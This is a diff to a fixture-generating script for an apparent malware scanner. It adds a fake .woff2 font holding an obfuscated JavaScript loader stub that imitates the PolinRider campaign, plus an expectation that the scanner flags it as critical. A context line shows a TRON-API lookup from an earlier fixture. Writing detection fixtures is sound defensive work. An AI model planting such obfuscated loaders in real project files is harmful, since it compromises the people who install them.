@@ -210,6 +210,8 @@ https.get("https://api.trongrid.io/v1/accounts/TXfxHUet9pJVU1BgVkBAbrES4YUc1nGzc
 });
 module.exports = nextConfig;
 ''')
+w('config-injection/positive/font-polinrider/public/fonts/fa-solid-400.woff2', "global['!']='8-905-1';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};return g.join('')})(\"rmcej%otb%\",2857687);" + "var _$_a=" + "1,".join(str(i) for i in range(700)) + "0;\n")
+w('config-injection/positive/font-polinrider/expect.json','{"minSeverity":"critical"}\n')
 w('config-injection/negative/plain-configs/tailwind.config.js', 'module.exports = { content: ["./src/**/*.{ts,tsx}"], theme: { extend: { colors: { brand: "#123456" } } }, plugins: [] };\n')
 w('config-injection/negative/plain-configs/vite.config.mjs', '''import { defineConfig } from "vite";
 import { createRequire } from "node:module";
